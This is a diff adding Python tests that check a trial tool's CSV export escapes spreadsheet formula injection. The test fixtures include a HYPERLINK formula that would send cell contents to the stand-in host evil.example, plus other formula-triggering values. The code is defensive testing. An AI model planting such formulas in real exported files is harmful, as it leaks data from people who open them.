@@ -66,3 +66,40 @@ def test_an_unknown_format_is_refused(hearten: Callable[..., Any], answered: Any
     r = hearten("trial", "export", answered.slug, "--format", "xlsx")
     assert r.code == 2
     assert "unknown export format 'xlsx'" in r.err
+
+
+def test_roster_text_a_spreadsheet_would_run_is_exported_as_text(
+    hearten: Callable[..., Any], answered: Any, tmp_path: Path
+) -> None:
+    from hearten.trials.models import Site, Team
+
+    Site.objects.filter(trial=answered, code="Dudley").update(
+        code='=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    )
+    Team.objects.filter(trial=answered, code="DU-1").update(code="+T05@SUM(1+1)")
+    Team.objects.filter(trial=answered, code="DU-2").update(code="\tDU-2")
+    r = hearten("trial", "export", answered.slug, "--out", str(tmp_path))
+    assert r.code == 0, r.err
+    for name in ("responses_long", "responses_wide"):
+        table = pd.read_csv(tmp_path / f"{name}.csv", dtype=str, keep_default_na=False)
+        texts = [*table["site"], *table["team"]]
+        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))], name
+        assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in set(table["site"])
+    wide = pd.read_csv(tmp_path / "responses_wide.csv", dtype=str, keep_default_na=False)
+    assert {"'+T05@SUM(1+1)", "'\tDU-2", "DU-3"} <= set(wide["team"])
+    book = pd.read_csv(tmp_path / "codebook.csv").set_index("variable")
+    assert "apostrophe" in book.loc["site", "notes"]
+
+
+def test_only_text_that_would_run_is_changed() -> None:
+    from hearten.spreadsheet import neutral, neutral_frame
+
+    assert neutral("-3") == "-3"  # a plain number is not a formula
+    assert neutral("-2+3") == "'-2+3"
+    assert neutral("@SUM(A1)") == "'@SUM(A1)"
+    assert neutral("\rx") == "'\rx"
+    assert neutral("Dudley") == "Dudley"
+    assert neutral(-3) == -3
+    frame = neutral_frame(pd.DataFrame({"a": ["=1", "b"], "n": [-1.0, 2.0]}))
+    assert frame["a"].tolist() == ["'=1", "b"]
+    assert frame["n"].tolist() == [-1.0, 2.0]
